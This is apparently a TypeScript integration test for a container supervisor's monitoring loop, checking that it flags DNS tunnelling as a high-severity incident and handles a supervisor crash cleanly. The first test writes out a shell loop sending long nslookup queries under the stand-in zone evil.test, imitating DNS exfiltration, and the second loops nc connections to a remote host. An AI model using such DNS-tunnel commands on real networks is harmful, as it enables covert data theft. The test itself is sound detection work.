// The loop reacts to what a workload asks of others: a tunnel through the DNS is an incident; what was counted before a crash is none.
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { until } from '../home-fixture.ts';
import { incidentOf, type Loop, openLoop, shortPolicy } from '../loop-fixture.ts';
import { needs } from '../needs.ts';
import { openRemoteHost, type RemoteHost } from '../network-fixture.ts';

const RESOLVER = `
const socket = require('node:dgram').createSocket('udp4');
socket.on('message', (question, { port, address }) => {
  question.writeUInt16BE(0x8183, 2);
  socket.send(question, port, address);
}).bind(53, '0.0.0.0', () => console.log('ready'));
`;

/** A window in which forty questions and more fit on a loaded host. */
const policy = shortPolicy({ 'standard: 1s': 'standard: 1s', 'detailed: 1s': 'detailed: 1s' });

describe.skipIf(needs('root', 'nft', 'ip', 'runc', 'runsc', 'conmon', 'busybox'))(
  'the loop, of what is asked of others',
  () => {
    let loop: Loop;
    let remote: RemoteHost;

    beforeAll(async () => {
      remote = await openRemoteHost();
      const resolver = remote.host.start(process.execPath, '-e', RESOLVER);
      await new Promise((resolve) => resolver.stdout?.once('data', resolve));
      loop = await openLoop(['a', 'b']);
    });

    afterAll(async () => {
      await loop[Symbol.asyncDispose]();
      remote[Symbol.dispose]();
    });

    it('shows and logs it, and takes many long names of one zone for a tunnel', async () => {
      const secret = 'x'.repeat(50);
      const script = `n=0; while :; do n=$((n+1)); nslookup -type=a ${secret}$n.evil.test ${remote.address} > /dev/null; done`;
      await loop.run({ name: 'leaky', image: 'a', policy, argv: ['sh', '-c', script] });
      await until('its questions are shown', async () => {
        const { usage } = await loop.inspect('leaky');
        return (usage?.dnsQuestionsPerSecond ?? 0) > 10 && (usage?.connectionsPerSecond ?? 0) > 10;
      });
      const incident = await incidentOf(loop, 'leaky', ['dns-tunnel'], 'alert');
      expect(incident.severity).toBe('high');
      expect(incident.evidence.join(' ')).toContain('names of the DNS zone evil.test in one window');
      const audit = readFileSync(join(loop.home.dir, 'workloads/leaky/audit.jsonl'), 'utf8');
      expect(audit).toContain(`"kind":"question","comm":"","pid":0,"target":"${secret}1.evil.test"`);
    });

    it('counts a link that it takes over after a crash from then on', async () => {
      const script = `for n in $(seq 1 60); do nc -w 1 ${remote.address} 9 < /dev/null; sleep 0.1; done; while :; do sleep 0.1; done`;
      await loop.run({ name: 'client', image: 'b', policy, argv: ['sh', '-c', script] });
      await until('it is refused', async () => ((await loop.inspect('client')).usage?.refusedPerSecond ?? 0) > 2);
      await until('it has done with it', async () => (await loop.inspect('client')).usage?.connectionsPerSecond === 0);
      const pid = loop.home.supervisorPid();
      process.kill(pid, 'SIGKILL');
      await until(
        'another supervisor is there',
        () => existsSync(join(loop.home.dir, 'provost.pid')) && loop.home.supervisorPid() !== pid,
      );
      await until('a window has ended', async () => (await loop.inspect('client')).usage !== null);
      expect((await loop.incidents('client')).map(({ kind }) => kind)).not.toContain('refused-burst');
    });
  },
);
